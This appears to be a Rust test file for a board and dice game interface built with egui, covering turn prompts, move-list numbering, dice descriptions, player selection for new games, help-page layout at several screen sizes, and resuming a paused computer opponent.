    let moved = against_computer(&["d8-e8", "f5-e5"]);
    assert_eq!(words::turn_line(&moved, false), "Your move · Light");
    let placed = bingo("2..../2..../...../..... l 0 0", &[]);
    assert_eq!(words::turn_line(&placed, false), "Four claims win · Left to throw", "no dice decided who begins");
    let setup = MatchSetup { terms: AnyTerms::usual(GameKind::BingoBattle), seed: 1, ..MatchSetup::default() };
    let rolled = Rules::from(setup.start());
    let begins = rolled.bingo_battle().unwrap().game().begins();
    assert!(begins.starts_with("Higher roll, ") && begins.contains(" to "), "{begins}");
}

#[test]
fn a_line_of_the_list_has_the_number_of_its_first_move() {
    let model = against_computer(&["d8-e8", "f5-e5", "d6-e4"]);
    let lines: Vec<usize> = model.rows.iter().map(|begins| model.numbers[*begins]).collect();
    assert_eq!((lines, words::progress(&model).as_str()), (vec![1, 3], "Move 3"));
}

#[test]
fn the_list_reads_dice_aloud_in_words() {
    let model = bingo("2..../2..../...../..... l 0 0", &["s2 m3 c4 a5", "sA mA c- a-", ": sm"]);
    let mut stage = Stage::new(1280.0, 800.0);
    let actions = stage.click("2 of suns, 3 of moons, 4 of crowns, 5 of arms", |ctx| panel(ctx, &model));
    assert!(matches!(actions[..], [Action::Table(TableRequested::Jump(1))]));
    assert!(stage.find("in the order suns, moons").is_some());
}

#[test]
fn who_plays_is_asked_once_in_every_game() {
    for kind in GameKind::ALL {
        for (width, height) in [(1280.0, 1000.0), (390.0, 1400.0)] {
            let fresh = Model::default();
            let mut draft = Drafts::default();
            draft.game.choose(kind);
            let mut draw = |ctx: &Context| pages::show(ctx, Page::NEW_GAME, &fresh, &Settings::default(), &mut draft);
            let mut stage = Stage::new(width, height);
            let second = words::side(kind, Player::Second);
            let levels = Player::BOTH.map(|side| format!("{}’s level", words::side(kind, side)));
            stage.settle(&mut draw);
            assert!(stage.find("Person").is_none() && stage.find("Computer").is_none());
            let mut started = |stage: &mut Stage, answer: &str, known: [bool; 2]| {
                stage.click(answer, &mut draw);
                stage.settle(&mut draw);
                assert_eq!(levels.each_ref().map(|name| stage.find(name).is_some()), known, "{kind} {answer}");
                let actions = stage.click("Start the game", &mut draw);
                let [Action::Start(setup)] = &actions[..] else { panic!("{actions:?}") };
                (setup.seats, setup.terms.alone())
            };
            let (person, computer) = (Seat::Person, Seat::computer(1));
            assert_eq!(started(&mut stage, "Two players", [false; 2]), ([person; 2], false));
            assert_eq!(started(&mut stage, "Watch", [true; 2]), ([computer; 2], false));
            assert_eq!(started(&mut stage, "Play the computer", [false, true]), ([person, computer], false));
            assert_eq!(started(&mut stage, second, [true, false]), ([computer, person], false));
            if kind == GameKind::BingoBattle {
                assert_eq!(started(&mut stage, "Solo", [false; 2]), ([person, computer], true));
                assert_eq!(started(&mut stage, "Two players", [false; 2]), ([person; 2], false));
            }
        }
    }
}

#[test]
fn the_lessons_of_every_game_fit_every_size() {
    let fresh = Model::default();
    for (width, height) in SIZES {
        for about in GameKind::ALL {
            let mut drafts = Drafts { about, ..Drafts::default() };
            let mut stage = Stage::new(width, height);
            stage.settle(|ctx: &Context| pages::show(ctx, Page::HELP, &fresh, &Settings::default(), &mut drafts));
            let foot = stage.find("Done").unwrap();
            assert!(foot.bottom() <= height && foot.right() <= width, "{about} {width} x {height}: {foot:?}");
        }
    }
}

#[test]
fn a_computer_that_holds_still_in_a_game_against_somebody_can_be_asked_to_go_on() {
    let mut held = against_computer(&["d8-e8"]);
    held.paused = true;
    for (width, height) in [(1280.0, 800.0), (390.0, 844.0)] {
        let mut stage = Stage::new(width, height);
        let actions = match width > 1000.0 {
            true => stage.click("Resume", |ctx| panel(ctx, &held)),
            // There the line lies under the board.
            false => {
                let place = egui::Rect::from_min_size(egui::pos2(0.0, 400.0), egui::vec2(width, 46.0));
                let line = |ctx: &Context| frames::region(ctx, "line", place, |ui| hud::board_line(ui, &held, ""));
                stage.settle(|ctx| drop(line(ctx)));
                stage.click("Resume", line)
            }
        };
        assert!(matches!(actions[..], [Action::Table(TableRequested::Pause(false))]), "{actions:?}");
    }
}
